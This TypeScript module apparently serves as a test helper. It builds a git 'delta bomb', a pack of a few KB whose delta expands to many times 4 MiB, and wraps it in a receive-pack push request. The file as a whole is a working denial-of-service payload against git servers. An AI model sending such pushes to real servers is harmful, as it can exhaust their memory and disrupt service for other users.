import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';

const type = { blob: 3, refDelta: 7 } as const;
const baseBytes = 4 * 1024 * 1024;

/** A pack of a few KB with two objects: a blob, and a delta on it whose result has `copies` times 4 MiB. */
export function deltaBomb(copies: number): Buffer {
  const base = Buffer.alloc(baseBytes);
  // All flags of a copy but its offset's, and the size in three bytes.
  const copy = Buffer.from([
    0x80 | 0x70,
    baseBytes & 0xff,
    (baseBytes >> 8) & 0xff,
    baseBytes >> 16,
  ]);
  const delta = Buffer.concat([
    variableLength(baseBytes),
    variableLength(baseBytes * copies),
    ...Array.from({ length: copies }, () => copy),
  ]);
  const head = Buffer.alloc(12);
  head.write('PACK');
  head.writeUInt32BE(2, 4);
  head.writeUInt32BE(2, 8);
  const name = createHash('sha1').update(`blob ${baseBytes}\0`).update(base).digest();
  const pack = Buffer.concat([
    head,
    objectHead(type.blob, base.length),
    deflateSync(base, { level: 9 }),
    objectHead(type.refDelta, delta.length),
    name,
    deflateSync(delta, { level: 9 }),
  ]);
  return Buffer.concat([pack, createHash('sha1').update(pack).digest()]);
}

/** What git sends to make a branch of a commit that the pack does not even need to have. */
export function pushRequest(branch: string, pack: Buffer): Buffer<ArrayBuffer> {
  const commit = 'c'.repeat(40);
  const capabilities = 'report-status side-band-64k';
  const line = `${'0'.repeat(40)} ${commit} refs/heads/${branch}\0${capabilities}`;
  const length = (line.length + 4).toString(16).padStart(4, '0');
  return Buffer.concat([Buffer.from(`${length}${line}0000`), pack]);
}

function objectHead(kind: number, size: number): Buffer {
  const rest = Math.floor(size / 16);
  const first = (kind << 4) | (size & 0x0f);
  return rest === 0
    ? Buffer.from([first])
    : Buffer.concat([Buffer.from([first | 0x80]), variableLength(rest)]);
}

/** Seven bits to a byte, the lowest first. */
function variableLength(size: number): Buffer {
  const bytes: number[] = [];
  for (let rest = size; ; rest = Math.floor(rest / 128)) {
    if (rest < 128) return Buffer.from([...bytes, rest]);
    bytes.push((rest % 128) | 0x80);
  }
}
